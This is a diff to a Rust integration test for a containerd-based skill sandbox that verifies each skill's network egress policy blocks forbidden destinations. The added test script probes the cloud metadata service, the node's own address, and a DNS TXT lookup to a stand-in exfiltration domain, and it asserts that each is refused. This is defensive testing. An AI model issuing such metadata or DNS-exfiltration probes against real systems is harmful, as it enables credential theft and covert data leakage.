@@ -139,22 +139,38 @@ fn assert_lines(output: &str, lines: &[&str]) {
 
 #[test]
 fn containerd_runs_each_skill_with_exactly_its_own_egress() {
-    let setup = Setup::new("shim");
+    let mut setup = Setup::new("shim");
     let containerd = Containerd::start_with(Some(&setup.fake.node_path()), &setup.node_toml());
     let namespace = "skillbox-test-egress";
     let work = setup.work.path();
+
+    // Servers where the policy must not let A in: without the always-deny
+    // ranges and the node rules, `0.0.0.0/0` port 80 would reach the
+    // metadata service and the node's address would answer.
+    setup.fake.serve_http_in_internet("169.254.169.254", 80);
+    setup.fake.serve_http_on_node(NODE_ADDRESS, 8080);
+    setup.fake.start_udp_listener("198.51.100.20", 5353);
 
     // A resolves allowed.example and holds it while B runs.
     let a = compile_skill_md(
         work,
         "egr-a",
         &policy(
-            "      - { domain: allowed.example, ports: [8080] }\n",
+            "      - { domain: allowed.example, ports: [8080] }\n      \
+             - { cidr: 203.0.113.0/24, ports: [8080] }\n      \
+             - { cidr: 0.0.0.0/0, ports: [80] }\n    \
+             deny:\n      - { cidr: 203.0.113.11/32 }\n",
             "addr=$(resolve allowed.example); echo \"allowed.example resolves to $addr\"; \
              fetch \"$addr\" 8080 \"allowed name\"; \
+             fetch 203.0.113.11 8080 \"denied address inside the allowed cidr\"; \
              fetch 198.51.100.20 8080 \"address no allowed name resolved to\"; \
+             fetch 169.254.169.254 80 \"cloud metadata\"; \
+             fetch 198.18.0.2 8080 \"the node's own address\"; \
+             fetch 2001:db8::10 8080 \"ipv6\"; \
              nslookup other.example >/dev/null 2>&1 && echo \"other.example: resolved\" || echo \"other.example: not resolved\"; \
+             nslookup -type=TXT k9q2x7f3.exfil.example >/dev/null 2>&1 && echo \"exfil: resolved\" || echo \"exfil: not resolved\"; \
              timeout 5 nslookup allowed.example 198.51.100.53 >/dev/null 2>&1 && echo \"direct dns: answered\" || echo \"direct dns: blocked\"; \
+             timeout 5 nslookup -port=5353 udp-probe.example 198.51.100.20 >/dev/null 2>&1; \
              echo ready; sleep 60",
         ),
     );
@@ -179,10 +195,30 @@ fn containerd_runs_each_skill_with_exactly_its_own_egress() {
         &[
             "allowed.example resolves to 203.0.113.10",
             "allowed name: reached",
+            "denied address inside the allowed cidr: refused",
             "address no allowed name resolved to: refused",
+            "cloud metadata: refused",
+            "the node's own address: refused",
+            "ipv6: refused",
             "other.example: not resolved",
+            "exfil: not resolved",
             "direct dns: blocked",
         ],
+    );
+    for address in [
+        "203.0.113.11",
+        "198.51.100.20",
+        "169.254.169.254",
+        NODE_ADDRESS,
+        "2001:db8::10",
+    ] {
+        let log = setup.fake.http_log(address);
+        assert!(!log.contains("GET /"), "{address} was reached:\n{log}");
+    }
+    let udp = setup.fake.udp_log("198.51.100.20", 5353);
+    assert!(
+        !udp.contains("udp-probe"),
+        "a UDP datagram left the sandbox:\n{udp}"
     );
 
     // Upstream saw only A's allowed name, asked from the node (the proxy).
